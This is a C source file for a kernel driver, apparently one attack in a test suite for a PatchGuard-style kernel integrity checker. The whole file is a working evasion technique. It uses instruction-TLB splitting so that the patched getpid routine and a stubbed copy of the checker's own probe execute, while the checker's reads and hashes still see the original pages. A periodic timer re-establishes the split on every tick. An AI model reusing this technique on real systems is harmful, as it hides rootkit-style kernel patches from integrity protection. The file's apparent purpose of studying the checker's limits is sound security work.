/* attack_a61_split_checker (A61): split the checker's own code page too.
 * As attack_a59, the getpid service routine's text page runs a copy with
 * the routine replaced; the page holding PatchGuard's instruction-fetch
 * probe (pg_probe_exec, found by its first bytes) runs a copy in which
 * the probe returns the value it was asked to find (`mov eax, edx; ret`).
 * Both splits are set up again from a periodic timer on every tick. The
 * checker's reads, its page-table check and its hashes see the original
 * pages; the code it executes is the attacker's. By design: no bug check
 * (a same-privilege limit, docs/patchguard.md). */
#include "attack_pg.h"

struct split {
	uint64_t *pte, orig, split, page, fill;
};
static struct split s[2];
static int nsplit;
static struct ktimer beat;
static struct dpc beat_dpc;
static uint64_t splits;

static void resplit(struct dpc *d, void *ctx)
{
	uint64_t pf = a_cli();
	for (int i = 0; i < nsplit; i++) {
		*s[i].pte = s[i].split;
		a_invlpg(s[i].page);
		((void (*)(void))s[i].fill)(); /* the instruction TLB takes the copy */
		*s[i].pte = s[i].orig;
	}
	if (++splits == 10)
		printk("attack_a61: splits set up 10 times\n");
	a_restore(pf);
}

/* Copy the text page at page into a page-aligned pool page; 0 on failure. */
static uint8_t *copy_page(uint64_t page)
{
	uint8_t *buf = pool_alloc(2 * A_PAGE, 0x74696C53);
	if (!buf)
		return NULL;
	uint8_t *copy = (uint8_t *)(((uint64_t)buf + A_PAGE - 1) & ~(A_PAGE - 1));
	memcpy(copy, (const void *)page, A_PAGE);
	return copy;
}

static bool add_split(uint64_t page, uint8_t *copy, uint64_t fill)
{
	uint64_t *pte = a_pte_of(page, 0);
	if (!pte || (uint64_t)copy < KPP_DIRECT_MAP_BASE)
		return false;
	s[nsplit].pte = pte;
	s[nsplit].orig = *pte;
	s[nsplit].split = (*pte & ~A_PTE_ADDR) | (((uint64_t)copy - KPP_DIRECT_MAP_BASE) & A_PTE_ADDR);
	s[nsplit].page = page;
	s[nsplit].fill = fill;
	nsplit++;
	return true;
}

status_t driver_entry(struct driver_object *drv)
{
	static const uint8_t probe_head[] = {0x44, 0x8B, 0x07, 0x44, 0x0F, 0xB7, 0x4F, 0x04, 0xC6,
					     0x07, 0xB8, 0x89, 0x57, 0x01, 0xC6, 0x47, 0x05, 0xC3};
	static const uint8_t fake_getpid[6] = {0xB8, 0x92, 0x10, 0x00, 0x00, 0xC3}; /* mov eax, 4242; ret */
	static const uint8_t fake_probe[3] = {0x89, 0xD0, 0xC3};                    /* mov eax, edx; ret */
	uint64_t *table = a_find_service_table();
	uint64_t probe = a_find(A_TEXT, probe_head, sizeof probe_head);
	if (!table || !probe) {
		printk("attack_a61: service table or PatchGuard's probe not found\n");
		return KPP_STATUS_UNSUCCESSFUL;
	}
	uint64_t target = table[KPP_SYS_GET_PID];
	uint64_t tpage = target & ~(A_PAGE - 1), ppage = probe & ~(A_PAGE - 1);
	uint8_t *tcopy = copy_page(tpage);
	uint8_t *pcopy = tpage == ppage ? tcopy : copy_page(ppage);
	if (!tcopy || !pcopy) {
		printk("attack_a61: no memory\n");
		return KPP_STATUS_UNSUCCESSFUL;
	}
	memcpy(tcopy + (target - tpage), fake_getpid, sizeof fake_getpid);
	memcpy(pcopy + (probe - ppage), fake_probe, sizeof fake_probe);
	if (!add_split(tpage, tcopy, target) || (ppage != tpage && !add_split(ppage, pcopy, probe))) {
		printk("attack_a61: no PTE for kernel text, or a copy outside the direct map\n");
		return KPP_STATUS_UNSUCCESSFUL;
	}
	dpc_init(&beat_dpc, resplit, NULL);
	timer_init(&beat, &beat_dpc);
	uint64_t pf = a_cli();
	resplit(NULL, NULL);
	timer_set(&beat, 10000000ull, 10000000ull);
	printk("attack_a61: getpid's page and PatchGuard's probe page split: both execute copies\n");
	a_patched("attack_a61");
	a_restore(pf);
	return KPP_STATUS_SUCCESS;
}
